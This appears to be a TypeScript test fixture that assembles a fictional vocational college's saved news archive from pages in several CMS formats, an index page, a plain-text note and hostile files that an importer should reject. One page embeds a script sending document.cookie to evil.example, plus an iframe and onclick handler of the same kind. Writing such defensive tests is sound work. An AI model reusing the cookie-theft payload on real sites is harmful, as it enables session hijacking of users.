import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { zipSync } from 'fflate';
import sharp from 'sharp';

/**
 * A small saved news archive as an old college site would yield it, written for the tests (a
 * fictional college): one page of each CMS shape, an index page, a plain-text article and the
 * hostile files an importer must refuse without losing the rest.
 */
export async function buildNewsArchive(): Promise<Record<string, Uint8Array>> {
  const photo = await sharp({
    create: { width: 640, height: 400, channels: 3, background: { r: 180, g: 40, b: 30 } },
  })
    .jpeg()
    .toBuffer();
  const utf8 = (s: string) => new TextEncoder().encode(s);
  const webplus = `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">
<title>Fire rescue detachment visits the college - Donghai Vocational College</title></head>
<body><div class="col_path">Current Page: <a href="/">homepage</a> &gt; <a href="/news/list.htm">News</a></div>
<h1 class="arti_title">District Fire Rescue Detachment Visits to Plan a New Major</h1>
<p class="arti_metas"><span class="arti_update">Date: 2024-11-20</span> <span class="arti_views">Views: 311</span></p>
<div class="wp_articlecontent">
<p>On the afternoon of November 18, Zhou Haifeng, Deputy Commander of the District Fire Rescue Detachment, led a six-member delegation to the college.</p>
<p>Party Secretary Lin Guodong and Vice President He Wenjing received the guests and toured the emergency rescue training center with them.</p>
<p><img src="/_upload/article/images/4f/2a/visit.jpg" alt="The two sides at the symposium"></p>
<p>Both sides agreed to draft a joint training plan for the Fire Rescue Technology major before the spring term.</p>
</div>
<a href="/_upload/article/images/4f/2a/visit.jpg" class="original">original image</a>
</body></html>`;
  const wordpress = `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="generator" content="WordPress 6.4">
<title>Order class opens | Donghai College News</title></head><body>
<article class="post"><h1 class="entry-title">Chemical order class opens with Huayang Materials</h1>
<div class="entry-meta"><time class="entry-date" datetime="2022-03-09T10:00:00+08:00">March 9, 2022</time></div>
<div class="entry-content"><p>Huayang New Materials Co., Ltd. and the School of Chemical Engineering opened the second Huayang order class with 32 students.</p>
<p>The company will send four engineers to teach the process-safety course.</p></div></article></body></html>`;
  const generic = `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Teachers visit partner plant</title></head><body>
<div id="nav">${Array.from({ length: 8 }, (_, i) => `<a href="/n${i}.aspx">Section ${i}</a>`).join(' ')}</div>
<div class="main"><h2>Teachers Visit the Binhai Logistics Hub</h2>
<div class="text"><p>On June 3, 2021, eight teachers of the logistics major spent a day at the Binhai Logistics Hub to study its automated sorting lines.</p>
<p>The hub's training manager, Wu Lei, showed the group the control room and the cold-chain warehouse, and the two sides talked about internships for the summer.</p>
<p>The visit is part of the teachers' enterprise practice plan of the college for the year.</p></div></div>
<div class="footer">Donghai Vocational College</div></body></html>`;
  const list = `<!DOCTYPE html><html><head><meta charset="utf-8"><title>News</title></head><body><ul>${Array.from(
    { length: 25 },
    (_, i) =>
      `<li><a href="/2024/11${String(i + 1).padStart(2, '0')}/c1234a${9000 + i}/page.htm">Item ${i}</a></li>`,
  ).join('')}</ul></body></html>`;
  const hostile = `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Skills contest</title></head><body>
<h1 class="arti_title">Joint Skills Contest With Three Enterprises</h1><span class="arti_update">2020-10-15</span>
<div class="wp_articlecontent"><p onclick="steal()">Forty students took part in the chemical process control contest co-held with three partner enterprises.</p>
<script>document.location='https://evil.example/'+document.cookie</script>
<iframe src="https://evil.example/frame"></iframe><p>The winners will join the enterprises' summer internship programme.</p></div></body></html>`;
  const text = `Secondary school principals visit the college

On April 22, 2023, principals of five secondary vocational schools of the district visited the college to discuss the "3+2" through-training programme.

They toured the intelligent manufacturing training center and agreed to hold a joint enrolment briefing in May.`;
  return {
    'site/2024/1118/c1234a56789/page.htm': utf8(webplus),
    'site/_upload/article/images/4f/2a/visit.jpg': new Uint8Array(photo),
    'site/info/1021/3456.htm': new Uint8Array(
      readFileSync(join(import.meta.dirname, 'fixtures/news-pages/vsb-gbk.htm')),
    ),
    'site/2022/03/09/huayang-order-class/index.html': utf8(wordpress),
    'site/news-detail.aspx': utf8(generic),
    'site/news/list.htm': utf8(list),
    'site/2020/1015/c1234a11111/page.htm': utf8(hostile),
    'site/notes/principals.txt': utf8(text),
    'site/css/site.css': utf8('body { color: #333 }'),
    'site/broken.htm': new Uint8Array([0x00, 0x01, 0x02, 0xff, 0xfe, 0x00, 0x10, 0x20]),
    'site/setup.exe': new Uint8Array([0x4d, 0x5a, 0x90, 0x00]),
  };
}

/** The archive as a .zip, optionally with extra raw entries (a path that climbs out, a bomb). */
export function zipArchive(files: Record<string, Uint8Array>): Uint8Array {
  return zipSync(Object.fromEntries(Object.entries(files).map(([k, v]) => [k, [v, { level: 6 }]])));
}
